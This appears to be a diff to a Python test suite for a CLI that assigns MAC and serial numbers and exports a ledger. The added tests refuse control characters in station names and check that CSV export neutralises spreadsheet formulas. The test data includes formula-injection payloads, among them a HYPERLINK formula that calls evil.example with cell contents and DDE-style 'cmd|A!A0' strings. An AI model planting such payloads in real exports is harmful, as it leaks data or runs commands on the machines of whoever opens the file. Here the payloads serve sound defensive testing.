@@ -24,7 +24,9 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[2] / 'tools'))
+sys.path.insert(0, str(Path(__file__).resolve().parent))  # also under python3 -m unittest
 from make_sample_vendor import vendor_bytes  # noqa: E402
+from as_nobody import AS_NOBODY, runnable_by_nobody  # noqa: E402
 
 CLI = os.environ['QUORVIX_CLI']
 STRACE = shutil.which('strace')
@@ -299,6 +301,37 @@ class Refusing(LedgerTest):
         self.assertEqual(self.units(), before_units)
         self.assertEqual(spare.read_bytes(), before_file)
 
+    def test_a_station_name_with_a_control_character_is_refused(self):
+        self.init()
+        path, = self.files(1)
+        refused = [('bench\t2', 'U+0009'), ('bench-2\n', 'U+000A'), ('\rbench', 'U+000D'), ('\x01', 'U+0001'),
+                   ('\x1b[8mbench-2', 'U+001B'), ('bench\x7f', 'U+007F'), ('bench\x80', 'U+0080'),
+                   ('bench\x85', 'U+0085'), ('bench\x9f2', 'U+009F'),
+                   ('bench-\udcff', 'is not')]  # a byte that is no UTF-8
+        commands = [('assign', path, '--ledger', self.ledger), ('ledger', 'reconcile', self.ledger),
+                    ('ledger', 'export', self.ledger)]
+        for station, said in refused:
+            for command in commands:
+                with self.subTest(station=station, command=command[:2]):
+                    result = self.cli(*command, '--station', station)
+                    self.assertEqual((result.returncode, result.stdout), (2, ''), result.stderr)
+                    self.assertRegex(result.stderr, f"^quorvix-cli: error: .*--station: .*{re.escape(said)}")
+            assigned = self.cli('assign', path, '--ledger', self.ledger, '--station', station, '--json')
+            self.assertEqual(json.loads(assigned.stdout)['result'], 'refused')
+        self.assertEqual(self.units(), [])
+        self.assertEqual(fields(path), SAMPLE)
+        # Any other name is a name: one past the control characters, any script, one a spreadsheet would run.
+        accepted = ['bench\xa0 2', '工位 2', 'Prüfplatz-3', '=1+2', 'bench 👍']
+        for station, path in zip(accepted, self.files(len(accepted), 'accepted')):
+            with self.subTest(station=station):
+                result = self.cli('assign', path, '--ledger', self.ledger, '--station', station)
+                self.assertEqual(result.returncode, 0, result.stderr)
+                for command in commands[1:]:
+                    self.assertEqual(self.cli(*command, '--station', station).returncode, 0)
+                found = self.cli('ledger', 'export', self.ledger, '--station', station, '--format', 'jsonl')
+                self.assertEqual([json.loads(line)['path'] for line in found.stdout.splitlines()], [str(path)])
+        self.assertEqual([unit['station'] for unit in self.units()], accepted)
+
     def test_a_file_that_cannot_be_written_costs_no_values(self):
         self.init()
         small = self.folder / 'small.bin'
@@ -315,8 +348,8 @@ class Refusing(LedgerTest):
             self.folder.chmod(0o777)
             for ledger in self.folder.glob('line.db*'):
                 ledger.chmod(0o666)
-            result = self.cli('assign', locked, '--ledger', self.ledger, preexec_fn=lambda: (os.setgid(65534),
-                                                                                             os.setuid(65534)))
+            result = subprocess.run([*AS_NOBODY, runnable_by_nobody(self, CLI), 'assign', locked, '--ledger',
+                                     self.ledger], capture_output=True, text=True, timeout=120)
             self.assertEqual(result.returncode, 2, result.stderr)
         self.assertEqual(self.units(), [])
 
@@ -492,8 +525,13 @@ class Supervising(LedgerTest):
 
     def set_times(self, times):
         """Gives the units, oldest first, these times (UTC ISO 8601)."""
-        statements = [f"UPDATE units SET time = '{time}' WHERE id = (SELECT id FROM units ORDER BY id LIMIT 1 OFFSET {i})"
-                      for i, time in enumerate(times)]
+        self.set_column('time', times)
+
+    def set_column(self, column, values):
+        """Gives the units, oldest first, these values in column, as an earlier version, or someone at the
+        database, may have left them: past the ledger's rules, as no station can."""
+        statements = [f"UPDATE units SET {column} = '{value}' WHERE id = (SELECT id FROM units ORDER BY id LIMIT 1 "
+                      f"OFFSET {i})" for i, value in enumerate(values)]
         if SERVER:  # the superuser, with the ledger's triggers off for this session alone
             SERVER.sql(';'.join(['SET session_replication_role = replica', *statements]),
                        self.ledger.rsplit('/', 1)[1])
@@ -544,7 +582,7 @@ class Supervising(LedgerTest):
         odd = self.folder / 'a, "quoted"\nname.bin'
         odd.write_bytes(vendor_bytes())
         paths = self.files(3) + [odd]
-        stations = ['bench-1', 'bench, "2"\nnorth', 'bench-1', 'bench-3']
+        stations = ['bench-1', 'bench, "2"; north', 'bench-1', 'bench-3']
         for path, station in zip(paths, stations):
             self.assertEqual(self.cli('assign', path, '--ledger', self.ledger, '--station', station).returncode, 0)
         self.set_times(['2026-12-07T10:00:00Z', '2026-12-08T10:00:00Z', '2026-12-09T10:00:00Z',
@@ -563,7 +601,7 @@ class Supervising(LedgerTest):
             (['--until', '2026-12-09T10:00:00Z'], [0, 1]),
             (['--since', '2026-12-08T10:00:01Z', '--until', '2026-12-10'], [2]),
             (['--station', 'bench-1'], [0, 2]),
-            (['--station', 'bench, "2"\nnorth'], [1]),
+            (['--station', 'bench, "2"; north'], [1]),
             (['--state', 'failed'], []),
         ]
         for args, chosen in cases:
@@ -591,6 +629,50 @@ class Supervising(LedgerTest):
                 self.assertNotEqual(killed.returncode, 0)
                 self.assertEqual(out.read_bytes(), before)
         self.assertEqual([name for name in os.listdir(self.folder) if name.startswith('export')], ['export.csv'])
+
+    def test_export_gives_a_spreadsheet_no_formula_to_run(self):
+        import csv
+        import io
+        self.init()
+        cases = [
+            # the station, the SN the file held before, and how a spreadsheet is to get them
+            ('=HYPERLINK("http://evil.example/?"&A3,"bench-2")', '=1+2+cmd|A!A0',
+             '\'=HYPERLINK("http://evil.example/?"&A3,"bench-2")', "'=1+2+cmd|A!A0"),
+            ('+bench', '+1+2+cmd|A!A0', "'+bench", "'+1+2+cmd|A!A0"),
+            ('-bench', '-1+2+cmd|A!A0', "'-bench", "'-1+2+cmd|A!A0"),
+            ('@SUM(1+1)*cmd|A!A0', '@SUM(A1:A9)+1', "'@SUM(1+1)*cmd|A!A0", "'@SUM(A1:A9)+1"),
+            ('\tbench', 'AB=CD+EF-GH@I', "'\tbench", 'AB=CD+EF-GH@I'),  # only a cell's start runs it
+            ('\rbench', 'AB;CD,EF"GH;I', "'\rbench", 'AB;CD,EF"GH;I'),
+            ('bench;2', 'ABCDEFGHIJKLM', 'bench;2', 'ABCDEFGHIJKLM'),
+            ("'bench", 'ABCDEFGHIJKLM', "'bench", 'ABCDEFGHIJKLM'),
+            ('工位 2', 'ABCDEFGHIJKLM', '工位 2', 'ABCDEFGHIJKLM'),
+        ]
+        for i, (station, sn_before, _, _) in enumerate(cases):
+            path = self.folder / f'unit{i}.bin'
+            path.write_bytes(vendor_bytes(sn=sn_before))
+            given = 'bench' if station[0] in '\t\r' else station  # refused now; an older ledger may hold them
+            result = self.cli('assign', path, '--ledger', self.ledger, '--station', given)
+            self.assertEqual(result.returncode, 0, result.stderr)
+        self.set_column('station', [station.replace("'", "''") for station, *_ in cases])
+        listed = self.units()
+        keys = ['mac', 'sn', 'state', 'station', 'host', 'time', 'path', 'mac_before', 'sn_before']
+        # As bytes: text mode would take a CR in a field for a line's end.
+        exported = subprocess.run([CLI, 'ledger', 'export', str(self.ledger)], capture_output=True, timeout=120)
+        self.assertEqual(exported.returncode, 0, exported.stderr)
+        text = exported.stdout.decode()
+        rows = list(csv.reader(io.StringIO(text, newline='')))
+        self.assertEqual(rows[0], keys)
+        self.assertEqual(len(rows), len(cases) + 1)
+        for (station, sn_before, station_cell, sn_cell), unit, row in zip(cases, listed, rows[1:]):
+            with self.subTest(station=station, sn_before=sn_before):
+                self.assertEqual((unit['station'], unit['sn_before']), (station, sn_before))
+                self.assertEqual((row[3], row[8]), (station_cell, sn_cell))
+                self.assertEqual(row[:3] + row[4:8], [unit[key] for key in keys[:3] + keys[4:8]])
+        # Where the separator is a semicolon, a field that holds one is quoted too.
+        for field in ('"bench;2"', '"AB;CD,EF""GH;I"'):
+            self.assertIn(field, text)
+        jsonl = self.cli('ledger', 'export', self.ledger, '--format', 'jsonl').stdout.splitlines()
+        self.assertEqual([json.loads(line) for line in jsonl], listed)  # JSON carries every value as it is
 
     def test_the_ranges_future_from_the_last_24_hours(self):
         self.init('001132000000-00113200012B', 'QVX2612000001-QVX2612001000')  # 300 MACs
@@ -681,7 +763,7 @@ class Line(LedgerTest):
     def test_a_station_frozen_while_reserving_never_holds_up_the_others(self):
         self.init()
         reference, held, *others = self.files(5)
-        commit = self.call_number(['assign', reference, '--ledger', self.ledger], 'sendto', 'COMMIT', 'LOCK TABLE')
+        commit = self.call_number(['assign', reference, '--ledger', self.ledger], 'sendto', 'COMMIT', 'FOR UPDATE')
         station = self.frozen(held, 'A', commit)
         database = self.ledger.rsplit('/', 1)[1]
         locked = ("SELECT count(*) FROM pg_locks l JOIN pg_class c ON c.oid = l.relation "
